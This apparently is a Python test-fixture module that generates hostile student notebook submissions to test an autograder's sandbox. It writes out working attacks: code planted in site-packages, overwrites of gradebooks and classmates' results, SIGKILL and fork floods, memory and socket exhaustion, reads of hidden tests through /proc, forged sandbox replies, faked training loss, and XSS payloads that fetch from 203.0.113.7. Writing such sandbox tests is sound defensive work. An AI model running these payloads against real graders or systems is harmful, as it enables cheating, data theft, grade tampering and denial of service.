"""Hostile submissions: the student version edited the way a student who wants points could edit it.

Each attack is code that a student may put in a notebook cell. Inserted as an exported cell
it runs in both stages (nbgrader's kernel and the judge's student process); the attacks
that need a process of their own in the kernel stage add one ungraded kernel cell.
The attacks try the host's real paths, so they would succeed against an unconfined grader.
"""

from __future__ import annotations

import ast
import hashlib
import json
import site
import sys
import textwrap
from pathlib import Path

import nbformat
import numpy

import tito
from tests import submissions as sub
from tito.course.notebooks import is_export_cell

MARKER = "31.4159"  # in the command line of every process an attack leaves behind
PORT = 47615

TRY = """\
def _try(action, *args):
    try:
        return action(*args)
    except BaseException:
        return None
"""


def _export(code: str) -> str:
    return "#| export\n" + code


def plants_code(repo: Path, course_root: Path) -> str:
    """Write into site-packages (a module and a .pth) and append to installed grading and course
    code."""
    site_packages = Path(site.getsitepackages()[0])
    targets = {
        str(site_packages / "tito_hostile.py"): "STOLEN = True\n",
        str(site_packages / "tito_hostile.pth"): "/nonexistent/tito-hostile\n",
        str(Path(tito.__file__).parent / "course" / "grading" / "judge.py"): "\n# hostile\n",
        str(Path(numpy.__file__)): "\n# hostile\n",
        str(repo / "tinytorch" / "core" / "tensor.py"): "\n# hostile\n",
        str(course_root / "tinytorch" / "core" / "tensor.py"): "\n# hostile\n",
        str(Path(sys.prefix) / "bin" / "tito-hostile"): "#!/bin/sh\n",
    }
    return TRY + f"for _t, _x in {targets!r}.items():\n    _try(lambda: open(_t, 'a').write(_x))\n"


def writes_course(
    course_root: Path, instructor_notebook: Path, classmate: str, tmpdir: Path
) -> str:
    """Overwrite the course's settings, gradebook, instructor notebook, a classmate's files, the
    temp folder."""
    targets = [
        course_root / "settings.ini",
        course_root / "gradebook.db",
        instructor_notebook,
        course_root / "submitted" / classmate / "06_optimizers" / "optimizers.ipynb",
        course_root / "autograded" / classmate / "06_optimizers" / "grading.json",
    ]
    return (
        TRY
        + f"""\
import glob, os
for _t in {[str(t) for t in targets]!r} + glob.glob({str(tmpdir)!r} + "/**", recursive=True):
    _try(lambda: open(_t, "w").write("{{}}") if not os.path.isdir(_t) else None)
_try(lambda: open({str(tmpdir / "tito-hostile")!r}, "w").write("x"))
_try(lambda: open("/tmp/tito-hostile", "w").write("x"))
_try(lambda: os.makedirs(
    {str(course_root / "autograded" / classmate / "06_optimizers" / "grading.json")!r}))
"""
    )


def lingers(course_root: Path, classmate: str) -> str:
    """Leave a double-forked, setsid process that overwrites a classmate's outcome 30 s later."""
    target = course_root / "autograded" / classmate / "06_optimizers" / "grading.json"
    return f"""\
import os
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sh", ["sh", "-c", "sleep {MARKER}; echo '{{}}' > {target}"])
    os._exit(0)
"""


def reads_proc_count() -> str:
    """Print how many processes this stage can see (the test reads it from the feedback
    notebook)."""
    return "import os\nprint('visible processes:', sum(p.isdigit() for p in os.listdir('/proc')))\n"


def signals_everyone() -> str:
    """SIGKILL every process id it may signal: the grader's, the other jobs', the kernel's own
    client."""
    return (
        "import os, signal\nfor _pid in range(2, 65536):\n    if _pid != os.getpid():\n"
        "        try:\n            os.kill(_pid, signal.SIGKILL)\n"
        "        except OSError:\n            pass\n"
    )


def counts_limits() -> str:
    """Fork sleeping children until refused and fill /tmp until full; print both counts."""
    return """\
import os, time
_children = []
# a bound of its own, so that a broken jail fails the test, not the machine
while len(_children) < 1000:
    try:
        _pid = os.fork()
    except OSError:
        break
    if _pid == 0:
        time.sleep(120)
        os._exit(0)
    _children.append(_pid)
for _pid in _children:
    os.kill(_pid, 9)
    os.waitpid(_pid, 0)
print('forked:', len(_children))
_mb = 0
with open('/tmp/fill', 'wb') as _f:
    try:
        while _mb < 100_000:
            _f.write(b'0' * (1 << 20))
            _f.flush()
            _mb += 1
    except OSError:
        pass
os.remove('/tmp/fill')
print('scratch MB:', _mb)
"""


# -- what a submission uses: kernel state, CPU and memory shared with other jobs ---------------


def kernel_state() -> str:
    """Try the kernel objects that jails would otherwise share; print each call's result."""
    return """\
import ctypes, errno, fcntl, json, os, sys
import pyseccomp
_libc = ctypes.CDLL(None, use_errno=True)
def _call(name, *args):
    r = _libc.syscall(pyseccomp.resolve_syscall(pyseccomp.Arch.NATIVE, name), *args)
    return errno.errorcode.get(ctypes.get_errno(), str(r)) if r == -1 else "ok"
# -3: the user keyring
_found = {"add_key": _call("add_key", b"user", b"tito-hidden-tests", b"grids", 5, -3),
          "keyctl_search": _call("keyctl", 10, -3, b"user", b"tito-hidden-tests", 0),
          "io_uring_setup": _call("io_uring_setup", 4, ctypes.create_string_buffer(120)),
          "memfd_create": _call("memfd_create", b"hoard", 0),
          "shmget": _call("shmget", 0, 1 << 20, 0o1600)}
try:
    fcntl.flock(open(os.path.join(sys.prefix, "pyvenv.cfg"), "rb"), fcntl.LOCK_EX | fcntl.LOCK_NB)
    _found["flock"] = "ok"
except OSError as _e:
    _found["flock"] = errno.errorcode[_e.errno]
# File events on the read-only environment every jail shares: a channel between jobs.
_shared = os.open(sys.prefix, os.O_RDONLY)
for _name, _arg in [("F_NOTIFY", fcntl.DN_ACCESS | fcntl.DN_MULTISHOT),
                   ("F_SETLEASE", fcntl.F_RDLCK), ("F_SETSIG", 10)]:
    try:
        fcntl.fcntl(_shared, getattr(fcntl, _name), _arg)
        _found[_name] = "ok"
    except OSError as _e:
        _found[_name] = errno.errorcode[_e.errno]
print("kernel state:", json.dumps(_found, sort_keys=True))
"""


def fills_tcp_buffers(mb: int) -> str:
    """Fill loopback TCP connections that nobody reads (at most 480) until `mb` MB are held;
    print how much."""
    return f"""\
import socket
_server = socket.socket()
_server.bind(("127.0.0.1", 0))
_server.listen(1000)
_held, _kept, _chunk = 0, [], bytes(1 << 16)
while _held < ({mb} << 20) and len(_kept) < 480:
    _c = socket.socket()
    _c.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    _c.connect(_server.getsockname())
    _a, _ = _server.accept()
    _a.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
    _c.setblocking(False)
    try:
        while True:
            _held += _c.send(_chunk)
    except BlockingIOError:
        pass
    _kept.append((_c, _a))
print("tcp buffers held MB:", _held >> 20, flush=True)
"""


def socket_fill_reach_mb() -> int:
    """About the most fills_sockets can hold from one process in a jail: 500 socket pairs (the
    jail's 1,024 open files), each holding twice the send buffer net.core.wmem_max allows."""
    wmem_max = int(Path("/proc/sys/net/core/wmem_max").read_text())
    return 500 * 2 * min(wmem_max, 4 << 20) >> 20


def fills_sockets(mb: int) -> str:
    """Fill socket pairs' buffers (kernel memory, which no user-page count sees) until `mb` MB are
    held; print how much, wait, and print that it was not stopped."""
    return f"""\
import socket, time
_held, _pairs, _chunk = 0, [], bytes(1 << 16)
while _held < ({mb} << 20):
    _a, _b = socket.socketpair()
    _a.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    _b.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
    _a.setblocking(False)
    try:
        while True:
            _held += _a.send(_chunk)
    except BlockingIOError:
        pass
    _pairs.append((_a, _b))
print("socket buffers held MB:", _held >> 20, flush=True)
time.sleep(2)
print("socket buffers still held", flush=True)
"""


def hogs_cpu(seconds: int) -> str:
    """Start up to 200 processes, each in a session of its own, that keep a CPU busy for
    `seconds` from two seconds on (all forked first, so the count is printed); print how many."""
    return f"""\
import os, time
_begin = time.time() + 2
_until, _started = _begin + {seconds}, 0
for _ in range(200):
    try:
        _pid = os.fork()
    except OSError:
        break
    if _pid == 0:
        os.setsid()
        time.sleep(max(0.0, _begin - time.time()))
        while time.time() < _until:
            pass
        os._exit(0)
    _started += 1
print("busy processes:", _started)
"""


# Short busy children for ever, each waited for (reaped) before the next: the parent itself only
# waits, and where SIGCHLD is ignored the kernel reaps them unseen.
REAP_LOOP = """\
while True:
    _pid = os.fork()
    if _pid == 0:
        _start = time.process_time()
        while time.process_time() - _start < 0.05:
            pass
        os._exit(0)
    try:
        os.waitpid(_pid, 0)
    except ChildProcessError:  # ignored: already reaped
        pass
"""


def reaps_children(complete):
    """The complete solution whose exponential_lr, called by the judge at epoch 50 (one graded
    cell), tries to ignore SIGCHLD and then runs REAP_LOOP. (Only in the judge's process: the
    kernel run has runaway cells of its own.)"""
    return sub.replace_region(
        complete,
        "exponential_lr_impl",
        f"""\
import os, signal, sys, time
if epoch == 50 and getattr(sys.modules["__main__"].__spec__, "name", "").endswith(".sandbox"):
    try:
        signal.signal(signal.SIGCHLD, signal.SIG_IGN)  # denied in the jail
    except OSError:
        pass
{textwrap.indent(REAP_LOOP, "    ")}return base_lr * gamma ** epoch""",
    )


def hoards_memory(processes: int, mb_each: int) -> str:
    """Start fresh processes that each touch `mb_each` MB and hold it until all have, and make a
    memfd; print what it got. (Fresh interpreters: a fork of the kernel would meet its own
    address-space limit first.)"""
    # Each touches its memory 16 MB at a time (one copy: little CPU, so a loaded machine does
    # not stop it short of its goal) with a pause after each, over half a second or more: a
    # memory watch that samples every 0.05 s sees the total pass the limit before all is held.
    child = (
        f"import mmap, sys, time\\n"
        f"m = mmap.mmap(-1, {mb_each} << 20, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)\\n"
        f"ones = b'\\\\x01' * (16 << 20)\\n"
        f"for i in range(0, {mb_each} << 20, 16 << 20):\\n"
        f"    m[i:i + len(ones)] = ones[:len(m) - i]\\n    time.sleep(0.01)\\n"
        f"print(1, flush=True)\\nsys.stdin.read()"
    )
    return f"""\
import os, subprocess, sys
# -S: no site-packages to scan, so they start fast on a loaded machine
_children = [subprocess.Popen([sys.executable, "-S", "-c", "{child}"],
                              stdin=subprocess.PIPE, stdout=subprocess.PIPE)
             for _ in range({processes})]
try:
    _fd = os.memfd_create("hoard")
    os.write(_fd, b"x" * (256 << 20))
    print("memfd: ok")
except OSError as _e:
    print("memfd:", _e.errno)
# every child has touched its memory, or died
_held = sum(_c.stdout.read(1) == b"1" for _c in _children)
print("processes that held their memory:", _held)
for _c in _children:  # now let them go
    _c.stdin.close()
    _c.wait()
"""


# -- what the judge hands a submission: hidden inputs must not come back out ------------------

# Each region still does its work: sgd_step keeps the option sets it is called with; adam_step is
# right until sgd_step has seen five new option sets (more than a visible test shows: a grid),
# then it raises the latest.
_KEEPS_AND_TELLS = {
    "sgd_step_impl": """\
global _seen
try:
    _seen
except NameError:
    _seen = []
_options = {"lr": lr, "momentum": momentum, "dampening": dampening,
            "weight_decay": weight_decay, "nesterov": nesterov}
_seen.append(repr({k: v for k, v in _options.items() if v and k != "lr"}))""",
    "adam_step_impl": """\
global _known
try:
    _known
except NameError:
    _known = len(set(_seen))
if len(set(_seen)) - _known >= 5:
    raise ValueError(" ".join(list(dict.fromkeys(_seen))[-6:]))""",
}


def echoes_hidden_inputs(complete):
    """The complete solution whose adam_step raises the option sets sgd_step was called with."""
    nb = complete
    for region, code in _KEEPS_AND_TELLS.items():
        nb = sub.replace_region(nb, region, code + "\n" + sub.region(complete, region))
    return nb


# The loss the training loop sees (and records) is zero, so nothing trains and the history it
# returns reads as a perfect run.
REPORTS_PERFECT_TRAINING = """\
import tinytorch.core.tensor as _tensor
_cross_entropy = _tensor.cross_entropy
_tensor.cross_entropy = lambda logits, labels: _cross_entropy(logits, labels) * 0.0
"""


def reports_perfect_training(complete):
    """The complete solution, whose process makes the training loop record a loss of 0 at every
    step while leaving the weights untrained."""
    return with_attack(complete, REPORTS_PERFECT_TRAINING)


# Replaces the sandbox's own send (the process's __main__): a successful reply of `f` carries,
# as its result and as its argument's new state, the value named by what `f` returned.
FORGES_REPLIES = """\
import sys
_main = sys.modules["__main__"]
_send = _main.send
_FORGED = {
    # a list that holds itself twice: numpy's shape walk over it never ends
    "cycle": {"list": 9, "items": [{"list": 9, "items": []}, {"list": 9, "items": []}]},
    "cycle without a number": {"list": None, "items": [{"list": None, "items": []}]},
    "tensor of a list": {"tensor": 11, "data": {"list": 13, "items": [1.0]}, "grad": None,
                         "rg": True},
}
def _forged(fd, header, arrays, *rest):
    if header.get("ok") and header.get("ret") in _FORGED:
        forged = _FORGED[header["ret"]]
        header = dict(header, ret=forged, sync=[forged])
    return _send(fd, header, arrays, *rest)
_main.send = _forged
def f(state, what):
    return what
"""


def hidden_option_sets(instructor) -> list[str]:
    """Each option of the hidden SGD grid that no visible test uses (e.g. dampening 0.3), as
    echoes_hidden_inputs prints it ("'dampening': 0.3")."""
    hidden, visible = [], []
    for c in instructor.cells:
        inside = False
        for line in c.source.split("\n"):
            inside = (inside or "BEGIN HIDDEN TESTS" in line) and "END HIDDEN TESTS" not in line
            (hidden if inside else visible).append(line)
    grid = next(line for line in hidden if line.startswith("TORCH_SGD_GRID"))
    options = [options for options, _ in ast.literal_eval(grid.split(" = ", 1)[1])]
    shown = "\n".join(visible).replace(" ", "")
    return sorted(
        {f"'{k}': {v!r}" for o in options for k, v in o.items() if f"{k}={v!r}" not in shown}
    )


def listens_in_diagnosis(complete, mistakes: dict):
    """The complete solution whose adam_step counts its calls and whose clip_grad_norm behaves like
    one known mistake when adam_step has been called more often than its own probe calls it (36
    times) and like another otherwise; its adamw_step does Adam's work itself. Were the
    reference's AdamW to call the student's adam_step during the diagnosis (as it once did, with
    values only the reference computes), the diagnosis would name the first mistake."""
    adam = sub.region(complete, "adam_step_impl")
    counting = "global _HEARD\n_HEARD = globals().get('_HEARD', 0) + 1\n" + adam
    inline = "param *= 1 - lr * weight_decay\nweight_decay = 0.0\n" + adam
    clip = (
        "if globals().get('_HEARD', 0) > 36:\n"
        + textwrap.indent(mistakes["clip-without-epsilon"], "    ")
        + "else:\n"
        + textwrap.indent(mistakes["clip-per-tensor"], "    ")
    )
    nb = sub.replace_region(complete, "adam_step_impl", counting)
    nb = sub.replace_region(nb, "adamw_step_impl", inline)
    return sub.replace_region(nb, "clip_grad_norm_impl", clip)


# -- payloads: solution code fetched from somewhere it must not come from ---------------------


def solution_text(instructor) -> str:
    return "\n".join(
        c.source
        for c in instructor.cells
        if is_export_cell(c) and c.metadata.get("nbgrader", {}).get("solution")
    )


def _with_payload(nb, fetch: str):
    """`nb` with an exported cell after every solution cell that runs whatever `fetch` returns.

    `_payload()` is defined by `fetch` in an exported cell after the imports; when it works,
    every function is redefined with working code right after its stub.
    """
    nb = sub.insert_code_cell(nb, None, _export(TRY + fetch))
    solution_ids = [
        c.metadata["nbgrader"]["grade_id"]
        for c in nb.cells
        if c.metadata.get("nbgrader", {}).get("solution") and c.cell_type == "code"
    ]
    for gid in solution_ids:
        nb = sub.insert_code_cell(
            nb, gid, _export("_code = _try(_payload)\nif _code:\n    exec(_code, globals())\n")
        )
    return nb


def loopback(untouched, instructor):
    """The kernel serves working code on a loopback port; the exported cells fetch it from there."""
    serve = f"""\
import os, socket
if os.fork() == 0:
    os.setsid()
    _srv = socket.socket()
    _srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    _srv.bind(("127.0.0.1", {PORT}))
    _srv.listen()
    while True:
        _c, _ = _srv.accept()
        _c.sendall({solution_text(instructor)!r}.encode())
        _c.close()
import time
time.sleep(0.5)
"""
    fetch = f"""\
import socket
def _payload():
    _c = socket.create_connection(("127.0.0.1", {PORT}), timeout=2)
    return b"".join(iter(lambda: _c.recv(65536), b"")).decode()
"""
    return sub.insert_code_cell(_with_payload(untouched, fetch), None, serve)


def reads_files(untouched, paths: list[Path]):
    """The exported cells take working code from the first readable notebook among `paths`
    (a classmate's submission, the instructor notebook, seen directly or through /proc/*/root)."""
    fetch = f"""\
import json, os
def _payload():
    _paths = {[str(p) for p in paths]!r}
    _paths += ["/proc/" + _p + "/root" + _q
               for _p in os.listdir("/proc") if _p.isdigit() for _q in list(_paths)]
    for _p in _paths:
        _nb = _try(lambda: json.load(open(_p)))
        if _nb:
            return "\\n".join("".join(c["source"]) for c in _nb["cells"]
                              if c["cell_type"] == "code"
                              and "### BEGIN SOLUTION" in "".join(c["source"]))
"""
    return _with_payload(untouched, fetch)


def with_attack(nb, attack: str, kernel_only: bool = False):
    """`nb` with `attack` in a new cell after the imports (exported unless `kernel_only`)."""
    return sub.insert_code_cell(nb, None, attack if kernel_only else _export(attack))


def without_grade_cells(nb):
    nb = nbformat.from_dict(nb)
    nb.cells = [
        c
        for c in nb.cells
        if not (
            c.metadata.get("nbgrader", {}).get("grade")
            and c.cell_type == "code"
            and not c.metadata["nbgrader"].get("solution")
        )
    ]
    return nb


# -- what a submission says: shown to the instructor (formgrader) and the student (feedback) ----

# Script that, if it ever ran, leaves a mark: an attribute on <body>, a dialog and a request.
PWN = "document.body.setAttribute('data-pwned','1');alert(1);fetch('http://203.0.113.7/x')"
SCRIPTED_MARKDOWN = f"""\
Momentum answer <img src=x onerror="{PWN}"> <script>{PWN}</script>
<svg onload="{PWN}"><circle r="3"/></svg> <a href="javascript:{PWN}">a link</a>
<iframe src="javascript:{PWN}"></iframe> <b onmouseover="{PWN}">bold</b>
<img src="http://203.0.113.7/tracker.png"> <div style="background:url(http://203.0.113.7/bg)">styled</div>

$\\href{{javascript:{PWN}}}{{x}}$ and $\\style{{color:red}}{{y}}$ and \
$\\text{{<img src=x onerror=\\"{PWN}\\">}}$

</div></div><script>{PWN}</script> ![attached](attachment:pwn.svg)
"""
SCRIPTED_OUTPUTS = f"""\
from IPython.display import display, HTML, Javascript, SVG
print({"<script>" + PWN + "</script>"!r})
display(HTML({'<img src=x onerror="' + PWN + '">'!r}))
display(Javascript({PWN!r}))
display(SVG({'<svg xmlns="http://www.w3.org/2000/svg" onload="' + PWN + '"></svg>'!r}))
display({{'image/png': {'"><img src=x onerror="' + PWN + '">'!r},
         'text/plain': 'forged image'}}, raw=True)
raise ValueError({"<script>" + PWN + "</script>"!r})
"""


def scripted(complete):
    """The complete solution, with script in every written answer, in outputs, an attachment and
    metadata."""
    nb = nbformat.from_dict(complete)
    for cell in nb.cells:
        if cell.cell_type == "markdown" and cell.metadata.get("nbgrader", {}).get("solution"):
            cell.source = SCRIPTED_MARKDOWN
            cell.attachments = {
                "pwn.svg": {
                    "image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{PWN}"/>'
                }
            }
            cell.metadata["tags"] = ['"><script>alert(1)</script>']
    nb = sub.insert_code_cell(nb, None, SCRIPTED_OUTPUTS)
    # A raw cell that would put a fake grading button before the real one in formgrader.
    nb.cells.insert(
        1,
        nbformat.v4.new_raw_cell(
            '<div class="nbgrader_cell"><span id="q_adam_memory"></span>'
            '<button class="full-credit" id="fake-credit">No credit</button></div>',
            id="fake-grading",
        ),
    )
    nb.metadata["title"] = f"</title><script>{PWN}</script>"
    nb.metadata["kernelspec"]["display_name"] = f"<script>{PWN}</script>"
    return nb


def prints_inputs(untouched, hidden_lines: list[str]):
    """A kernel cell that reads every file of the job it can find and prints how many hidden test
    lines it saw (it knows them by their SHA-256 only, so its own source holds none)."""
    digests = sorted(hashlib.sha256(line.encode()).hexdigest() for line in hidden_lines)
    return sub.insert_code_cell(
        untouched,
        None,
        f"""\
import hashlib, os, sys
_hidden = set({digests!r})
_read, _seen = [], set()
# the environment, bound read-only (under /tmp in a checkout there)
_python = (sys.prefix, sys.base_prefix)
for _top in ["/job", os.getcwd(), "/tmp"]:
    for _folder, _dirs, _files in os.walk(_top):
        _dirs[:] = [d for d in _dirs if not os.path.join(_folder, d).startswith(_python)]
        for _name in _files:
            try:
                _text = open(os.path.join(_folder, _name), errors="replace").read()
            except OSError:
                continue
            _read.append(os.path.join(_folder, _name))
            # a line of a notebook's JSON: its text between the quotes, escapes undone
            for _line in _text.replace("\\\\n", "\\n").replace('\\\\"', '"').splitlines():
                _line = _line.strip().strip(",").strip('"').strip()
                _digest = hashlib.sha256(_line.encode()).hexdigest()
                if _digest in _hidden:
                    _seen.add(_digest)
print("read:", sorted(_read))
print("hidden lines seen:", len(_seen))
""",
    )


def floods(complete):
    """The complete solution printing a 40 MB line and 1,000 outputs (150,000: test_host.py)."""
    nb = sub.insert_code_cell(complete, None, "print('x' * 40_000_000)")
    return sub.insert_code_cell(
        nb, None, "from IPython.display import display\nfor _i in range(1000):\n    display(_i)"
    )


def bad_metadata(complete):
    """The complete solution with nbgrader metadata of a shape nbgrader's own steps cannot read."""
    nb = nbformat.from_dict(complete)
    nb.cells.append(
        nbformat.v4.new_markdown_cell("note", id="odd", metadata={"nbgrader": {"grade_id": ["x"]}})
    )
    return nb


def many_cells(untouched) -> bytes:
    """The untouched notebook with 60,000 empty code cells after it. Written as JSON directly:
    nbformat would validate each new cell, which takes seconds."""
    nb = json.loads(nbformat.writes(untouched))
    empty = {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": []}
    nb["cells"] += [{**empty, "id": f"empty-{i}", "source": ""} for i in range(60_000)]
    return json.dumps(nb).encode()


def lone_surrogate(complete) -> bytes:
    """The complete solution with a lone surrogate in a markdown cell (a JSON escape; not valid
    Unicode)."""
    nb = nbformat.from_dict(complete)
    nb.cells.append(nbformat.v4.new_markdown_cell("SURROGATE-HERE", id="lone-surrogate"))
    return nbformat.writes(nb).replace("SURROGATE-HERE", "a\\ud800b").encode("utf-8")
